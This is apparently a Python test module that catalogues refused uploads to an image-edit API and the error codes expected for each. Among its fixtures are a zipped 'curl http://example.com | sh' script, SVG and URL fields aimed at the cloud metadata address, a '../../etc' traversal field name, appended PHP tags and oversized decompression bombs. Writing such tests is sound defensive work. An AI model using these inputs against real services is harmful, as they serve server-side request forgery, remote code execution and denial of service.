"""Uploads that are refused: what is sent to `/v1/images/edits`, and what comes back."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

import httpx2
import numpy as np
from PIL import Image

from tests.serve.api.refusals.case import Case

JSON = "application/json"
Sent = dict[str, Any]
"""Arguments of an httpx2 client's `post`."""

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/></svg>'
PNG = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True, slots=True)
class Refusal:
    """`send` makes what is sent, as late as it is needed."""

    name: str
    send: Callable[[], Sent]
    code: str
    param: str | None = "image"
    status: int = 400


def picture(width: int = 64, height: int = 48, mode: str = "RGB") -> Image.Image:
    """Grain, the same every time."""
    grain = np.random.default_rng(7).integers(0, 256, (height, width, 3), dtype=np.uint8)
    return Image.fromarray(grain).convert(mode)


def file_of(image: Image.Image, kind: str = "png", **options: Any) -> bytes:
    file = io.BytesIO()
    image.save(file, kind, **options)
    return file.getvalue()


def chunk(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_header(width: int, height: int) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))


def png(width: int, height: int, data: bytes = b"", *more: bytes) -> bytes:
    """A PNG whose header says what it likes; `more` are chunks before the pixels."""
    pixels = chunk(b"IDAT", zlib.compress(data))
    return b"".join([PNG, png_header(width, height), *more, pixels, chunk(b"IEND")])


def with_chunk(kind: bytes, data: bytes) -> bytes:
    """A good PNG with one more chunk, before its pixels."""
    good = file_of(picture())
    return good[:33] + chunk(kind, data) + good[33:]


def zeros(size: int) -> bytes:
    """So many zero bytes, deflated a megabyte at a time."""
    deflate = zlib.compressobj(9)
    pieces = [deflate.compress(bytes(2**20)) for _ in range(size // 2**20)]
    return b"".join([*pieces, deflate.flush()])


def animation(kind: str, frames: int) -> bytes:
    first, *rest = [picture(8, 8).rotate(90 * i) for i in range(4)] * (frames // 4)
    return file_of(first, kind, save_all=True, append_images=rest)


def animated_png(frames: int) -> bytes:
    """Frames of one pixel each, by hand: Pillow would take a minute."""
    control = struct.pack(">IIIIIHHBB", 0, 1, 1, 0, 0, 1, 10, 0, 0)[4:]
    pixel = zlib.compress(b"\0\0\0\0")
    parts = [PNG, png_header(1, 1), chunk(b"acTL", struct.pack(">II", frames, 0))]
    parts += [chunk(b"fcTL", struct.pack(">I", 0) + control), chunk(b"IDAT", pixel)]
    for number in range(1, frames):
        parts.append(chunk(b"fcTL", struct.pack(">I", 2 * number - 1) + control))
        parts.append(chunk(b"fdAT", struct.pack(">I", 2 * number) + pixel))
    return b"".join([*parts, chunk(b"IEND")])


def zip_file() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("run.sh", "curl http://example.com | sh")
    return file.getvalue()


def jpeg_of(width: int, height: int) -> bytes:
    """A JPEG whose frame header says what it likes."""
    good = bytearray(file_of(picture(), "jpeg"))
    frame = good.index(b"\xff\xc0")
    good[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(good)


def many_scans() -> bytes:
    """One more pass over every pixel for some ten bytes each."""
    good = file_of(picture(), "jpeg", progressive=True)
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x01\x3f\x02\x00"
    return good[:-2] + scan * 5000 + good[-2:]


def webp_canvas(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    extended = b"VP8X" + struct.pack("<I", 10) + bytes(4) + size
    return b"RIFF" + struct.pack("<I", 4 + len(extended)) + b"WEBP" + extended


def mask_of(width: int = 64, height: int = 48) -> Image.Image:
    """Transparent, and so to be edited, in its left half."""
    mask = Image.new("RGBA", (width, height), (0, 0, 0, 255))
    mask.paste((0, 0, 0, 0), (0, 0, width // 2, height))
    return mask


def upload(file: Callable[[], bytes], name: str = "picture.png") -> Callable[[], Sent]:
    return lambda: {
        "data": {"prompt": "a red heart"},
        "files": {"image": (name, file(), "image/png")},
    }


def masked(mask: Callable[[], bytes]) -> Callable[[], Sent]:
    return lambda: {
        "data": {"prompt": "a red heart"},
        "files": {"image": ("a.png", file_of(picture())), "mask": ("b.png", mask())},
    }


def fields(**data: Any) -> Callable[[], Sent]:
    return lambda: {
        "data": {"prompt": "a red heart", **data},
        "files": {"image": ("a.png", file_of(picture()))},
    }


def files(*named: str) -> Callable[[], Sent]:
    return lambda: {
        "data": {"prompt": "a red heart"},
        "files": [(name, ("a.png", file_of(picture()))) for name in named],
    }


def raw(content: bytes, kind: str = "multipart/form-data; boundary=b") -> Callable[[], Sent]:
    return lambda: {"content": content, "headers": {"Content-Type": kind}}


def browser_form(fields: Mapping[str, str], *parts: tuple[str, str, bytes]) -> Sent:
    """A form as browsers send it: name, file name and content of each file, none left out."""
    heads = [(f'name="{name}"', text.encode()) for name, text in fields.items()]
    heads += [(f'name="{name}"; filename="{file}"', content) for name, file, content in parts]
    body = b"".join(
        f"--b\r\nContent-Disposition: form-data; {head}\r\n\r\n".encode() + content + b"\r\n"
        for head, content in heads
    )
    return raw(body + b"--b--\r\n")()


def as_json(body: object) -> Callable[[], Sent]:
    return lambda: {"json": body} if not isinstance(body, bytes) else raw(body, JSON)()


def good(kind: str = "png") -> bytes:
    return file_of(picture(), kind)


def data_url(file: bytes) -> str:
    return f"data:image/png;base64,{base64.b64encode(file).decode()}"


def edit_of(*urls: object, **more: object) -> dict[str, object]:
    return {"prompt": "a red heart", "images": [{"image_url": url} for url in urls], **more}


def broken_checksum() -> bytes:
    file = bytearray(good())
    file[30] ^= 0xFF  # within the header's
    return bytes(file)


def longer_than_told() -> bytes:
    file = bytearray(good("webp"))
    file[4:8] = struct.pack("<I", len(file) + 100)
    return bytes(file)


EDGES = '{"name": "edges"}'
FOLLOWING = '{"name": "edges", "image": "data:image/png;base64,"}'
CONTROL = "control_image"


def controlled(file: Callable[[], bytes], control: str = FOLLOWING) -> Callable[[], Sent]:
    return lambda: {
        "data": {"prompt": "a red heart", "control": control},
        "files": {"image": ("a.png", good()), CONTROL: ("b.png", file())},
    }


def huge() -> bytes:
    return png(50_000, 50_000)


def moving() -> bytes:
    return animation("png", 4)


BROKEN, FOREIGN, LARGE = "invalid_image", "unsupported_image", "image_too_large"
ANIMATED, MASK, VALUE = "animated_image", "invalid_mask", "invalid_value"

_URL = data_url(good())
_MASK = data_url(file_of(mask_of(48, 64)))
IMAGE_URL = "images.0.image_url"
JSON_EDITS: list[tuple[str, object, str, str | None]] = [
    ("cut short", b'{"prompt": "a", ', "invalid_json", None),
    ("a NUL behind it", b'{"prompt": "a"}\x00', "invalid_json", None),
    ("something behind it", b'{"prompt": "a"} x', "invalid_json", None),
    ("nested deep", b"[" * 99 + b"]" * 99, "json_too_deep", None),
    ("a list", [], VALUE, None),
    ("no picture", {"prompt": "a red heart"}, "missing_field", "images"),
    ("an empty list of pictures", edit_of(), VALUE, "images"),
    ("two pictures", edit_of(_URL, _URL), VALUE, "images"),
    ("a picture by another name", {"prompt": "a", "image": _URL}, "unknown_field", "image"),
    ("a picture that is no object", {"prompt": "a", "images": [_URL]}, VALUE, "images.0"),
    ("an address", edit_of("http://169.254.169.254/"), VALUE, IMAGE_URL),
    ("an empty address", edit_of(""), VALUE, IMAGE_URL),
    ("a file's id", {"prompt": "a", "images": [{"file_id": "f"}]}, "unknown_field", "file_id"),
    ("no base64", edit_of("data:image/png;base64,*"), VALUE, IMAGE_URL),
    ("a picture cut short", edit_of(data_url(good()[:99])), BROKEN, IMAGE_URL),
    ("a GIF", edit_of(data_url(good("gif"))), FOREIGN, IMAGE_URL),
    ("a huge one", edit_of(data_url(png(50_000, 50_000))), LARGE, IMAGE_URL),
    ("a mask of another size", edit_of(_URL, mask={"image_url": _MASK}), MASK, "mask.image_url"),
    ("a number as a text", edit_of(_URL, n="2"), VALUE, "n"),
    ("no prompt", edit_of(_URL, prompt=""), VALUE, "prompt"),
]

REFUSALS = [
    Refusal("an empty file", upload(lambda: b""), FOREIGN),
    Refusal("text", upload(lambda: b"a red heart"), FOREIGN),
    Refusal("SVG as PNG", upload(lambda: SVG), FOREIGN),
    Refusal("SVG behind a declaration", upload(lambda: b"<?xml version='1.0'?>" + SVG), FOREIGN),
    Refusal("HTML as JPEG", upload(lambda: b"<html><script>", "picture.jpg"), FOREIGN),
    Refusal("GIF as PNG", upload(lambda: good("gif")), FOREIGN),
    Refusal("BMP", upload(lambda: good("bmp")), FOREIGN),
    Refusal("TIFF", upload(lambda: good("tiff")), FOREIGN),
    Refusal("ICO", upload(lambda: good("ico")), FOREIGN),
    Refusal(
        "PostScript", upload(lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1"), FOREIGN
    ),
    Refusal("PDF", upload(lambda: b"%PDF-1.7\n"), FOREIGN),
    Refusal("a zip file", upload(zip_file), FOREIGN),
    Refusal("RIFF that is sound", upload(lambda: b"RIFF\x24\0\0\0WAVEfmt " + bytes(40)), FOREIGN),
    Refusal("a PNG's signature alone", upload(lambda: PNG), BROKEN),
    Refusal("a PNG cut in half", upload(lambda: good()[: len(good()) // 2]), BROKEN),
    Refusal("a PNG without its end", upload(lambda: good()[:-12]), BROKEN),
    Refusal("a PNG with too few pixels", upload(lambda: png(64, 64, bytes(100))), BROKEN),
    Refusal("a PNG without pixels", upload(lambda: png(64, 64)), BROKEN),
    Refusal("a PNG that begins with its pixels", upload(lambda: PNG + chunk(b"IDAT") * 2), BROKEN),
    Refusal("a PNG whose end comes first", upload(lambda: PNG + chunk(b"IEND")), BROKEN),
    Refusal("a PNG with a wrong checksum", upload(broken_checksum), BROKEN),
    Refusal("a PNG of no width", upload(lambda: png(0, 64)), BROKEN),
    Refusal("a PNG with a zip file behind it", upload(lambda: good() + zip_file()), BROKEN),
    Refusal("a PNG with a script behind it", upload(lambda: good() + b"<?php ?>"), BROKEN),
    Refusal(
        "a PNG of 200,000 chunks",
        upload(lambda: png(1, 1, b"", chunk(b"tEXt", b"a\0b") * 200_000)),
        BROKEN,
    ),
    Refusal(
        "a PNG chunk of 4 GB", upload(lambda: PNG + b"\xff\xff\xff\xffIHDR" + bytes(99)), BROKEN
    ),
    Refusal("a PNG of 50k×50k", upload(lambda: png(50_000, 50_000, bytes(2**20))), LARGE),
    Refusal("a PNG of 2³¹×2³¹", upload(lambda: png(2**31 - 1, 2**31 - 1)), LARGE),
    Refusal("a PNG one row too large", upload(lambda: png(8000, 8001)), LARGE),
    Refusal("an APNG", upload(lambda: animation("png", 4)), ANIMATED),
    Refusal("an APNG of 10k frames", upload(lambda: animated_png(10_000)), ANIMATED),
    Refusal("a JPEG's first bytes", upload(lambda: good("jpeg")[:20]), BROKEN),
    Refusal("a JPEG cut in half", upload(lambda: good("jpeg")[: len(good("jpeg")) // 2]), BROKEN),
    Refusal("a JPEG of 65,500 a side", upload(lambda: jpeg_of(65_500, 65_500)), LARGE),
    Refusal("a JPEG of no height", upload(lambda: jpeg_of(64, 0)), BROKEN),
    Refusal("a JPEG of 5,000 scans", upload(many_scans), BROKEN),
    Refusal("a WebP cut in half", upload(lambda: good("webp")[: len(good("webp")) // 2]), BROKEN),
    Refusal("a WebP of 12 bytes", upload(lambda: b"RIFF\x04\0\0\0WEBP"), BROKEN),
    Refusal("a WebP that says it is longer", upload(longer_than_told), BROKEN),
    Refusal("a WebP with something behind it", upload(lambda: good("webp") + b"<?php ?>"), BROKEN),
    Refusal("a JPEG of 9000×9000", upload(lambda: jpeg_of(9000, 9000)), LARGE),
    Refusal("a WebP of 5000×5000", upload(lambda: webp_canvas(5000, 5000)), LARGE),
    Refusal("HEIC", upload(lambda: b"\0\0\0\x18ftypheic" + bytes(64)), FOREIGN),
    Refusal("a WebP of 2²⁴ a side", upload(lambda: webp_canvas(2**24, 2**24)), LARGE),
    Refusal("a WebP that holds no picture", upload(lambda: webp_canvas(64, 64)), BROKEN),
    Refusal(
        "a WebP of an unknown kind", upload(lambda: b"RIFF\x20\0\0\0WEBPVP9 " + bytes(24)), BROKEN
    ),
    Refusal("an animated WebP", upload(lambda: animation("webp", 4)), ANIMATED),
    Refusal("a JPEG as mask", masked(lambda: good("jpeg")), MASK, "mask"),
    Refusal("a mask without alpha", masked(good), MASK, "mask"),
    Refusal("a mask of another size", masked(lambda: file_of(mask_of(48, 64))), MASK, "mask"),
    Refusal("a mask of 50k×50k", masked(lambda: png(50_000, 50_000)), LARGE, "mask"),
    Refusal(
        "a mask that marks nothing", masked(lambda: file_of(picture(mode="RGBA"))), MASK, "mask"
    ),
    Refusal("an animated mask", masked(lambda: animation("png", 4)), ANIMATED, "mask"),
    Refusal(
        "an address instead of a file",
        lambda: {
            "data": {"prompt": "a", "image": "http://169.254.169.254/"},
            "files": {"mask": ("b.png", good())},
        },
        VALUE,
    ),
    Refusal("no picture", files("mask"), "missing_field"),
    Refusal("two pictures", files("image", "image"), VALUE),
    Refusal("two pictures as a list", files("image[]", "image[]"), VALUE),
    Refusal("two pictures by both names", files("image", "image[]"), VALUE),
    Refusal("two masks", files("image", "mask", "mask"), VALUE, "mask"),
    Refusal("eighteen pictures", files(*["image[]"] * 18), "invalid_form", None),
    Refusal("a file as prompt", files("image", "prompt"), VALUE, "prompt"),
    Refusal("a file of another name", files("image", "../../etc"), VALUE, "../../etc"),
    Refusal("an unknown field", fields(steps="4"), "unknown_field", "steps"),
    Refusal("a field twice", fields(seed=["1", "2"]), VALUE, "seed"),
    Refusal("70 fields", fields(**{f"f{i}": "1" for i in range(70)}), "invalid_form", None),
    Refusal("a field of 300 kB", fields(user="a" * 300_000), "invalid_form", None),
    Refusal("a number as a word", fields(n="two"), VALUE, "n"),
    Refusal("a number with a fraction", fields(n="1.0"), VALUE, "n"),
    Refusal("a number of 5,000 digits", fields(seed="9" * 5000), VALUE, "seed"),
    Refusal("a number in other digits", fields(n="٢"), VALUE, "n"),
    Refusal("no prompt at all", fields(prompt=""), VALUE, "prompt"),
    Refusal("not a number", fields(guidance_scale="nan"), VALUE, "guidance_scale"),
    Refusal("infinity", fields(guidance_scale="1e999"), VALUE, "guidance_scale"),
    Refusal("a switch that is neither", fields(stream="maybe"), VALUE, "stream"),
    Refusal("no strength", fields(strength="0"), VALUE, "strength"),
    Refusal("too much strength", fields(strength="1.01"), VALUE, "strength"),
    Refusal(
        "no step left",
        fields(strength="0.1", num_inference_steps="4"),
        VALUE,
        "strength",
    ),
    Refusal(
        "strength twice said", fields(strength="0.5", input_fidelity="high"), VALUE, "strength"
    ),
    Refusal("an unknown fidelity", fields(input_fidelity="most"), VALUE, "input_fidelity"),
    Refusal("an empty prompt", fields(prompt=" "), VALUE, "prompt"),
    Refusal("a NUL in the prompt", fields(prompt="a\0b"), VALUE, "prompt"),
    Refusal("LoRAs that are no JSON", fields(loras="ink"), VALUE, "loras"),
    Refusal("LoRAs that are no list", fields(loras='{"name": "ink"}'), VALUE, "loras"),
    Refusal("a LoRA that is not there", fields(loras='[{"name": "oil"}]'), VALUE, "loras"),
    Refusal("LoRAs nested deep", fields(loras="[" * 99 + "]" * 99), "json_too_deep", None),
    Refusal("not a number in JSON", fields(control='{"scale": NaN}'), VALUE, "control"),
    Refusal("a control without a picture", fields(control=EDGES), "missing_field", "control.image"),
    Refusal(
        "a control picture without a control",
        files("image", "control_image"),
        "missing_field",
        "control",
    ),
    Refusal("two control pictures", controlled(good), VALUE, "control.image"),
    Refusal("a control picture cut short", controlled(lambda: good()[:99], EDGES), BROKEN, CONTROL),
    Refusal("a control picture of 50k×50k", controlled(huge, EDGES), LARGE, CONTROL),
    Refusal("an animated control picture", controlled(moving, EDGES), ANIMATED, CONTROL),
    Refusal("a size that cannot be", fields(size="63x64"), VALUE, "size"),
    Refusal("a transparent background", fields(background="transparent"), VALUE, "background"),
    Refusal("another model", fields(model="../x"), "model_not_found", "model", 404),
    Refusal(
        "no file chosen",
        lambda: browser_form({"prompt": "a red heart"}, ("image", "", b"")),
        "missing_field",
    ),
    Refusal("a mask without a byte", masked(bytes), FOREIGN, "mask"),
    *(
        Refusal(f"as JSON: {name}", as_json(body), code, param)
        for name, body, code, param in JSON_EDITS
    ),
    Refusal(
        "a form that is URL-encoded",
        raw(b"image=a", "application/x-www-form-urlencoded"),
        "invalid_form",
        None,
    ),
    Refusal("a form without a boundary", raw(b"--b", "multipart/form-data"), "invalid_form", None),
    Refusal("a form that is none", raw(b"\0" * 1000), "invalid_form", None),
    Refusal("a form of nothing", raw(b""), "missing_field"),
    Refusal(
        "a form that is cut short",
        raw(b'--b\r\nContent-Disposition: form-data; name="image"; filename="a"\r\n\r\n' + good()),
        "missing_field",
    ),
    Refusal(
        "a part without a name",
        raw(b"--b\r\nContent-Disposition: form-data\r\n\r\na\r\n--b--\r\n"),
        "invalid_form",
        None,
    ),
    Refusal(
        "a part of a thousand headers",
        raw(b"--b\r\n" + b"a: b\r\n" * 1000 + b"\r\n--b--\r\n"),
        "invalid_form",
        None,
    ),
    Refusal("a body of 65 MiB", raw(bytes(65 * 2**20)), "body_too_large", None, 413),
]


def _case(refusal: Refusal) -> Case:
    """Byte for byte, as the catalogue sends it."""
    request = httpx2.Request("POST", "http://sfumato/v1/images/edits", **refusal.send())
    return Case(
        f"an upload: {refusal.name}",
        "POST",
        "/v1/images/edits",
        refusal.status,
        refusal.code,
        request.read(),
        {"Content-Type": request.headers["content-type"]},
        param=refusal.param,
    )


CASES = [_case(refusal) for refusal in REFUSALS if refusal.status != 413]
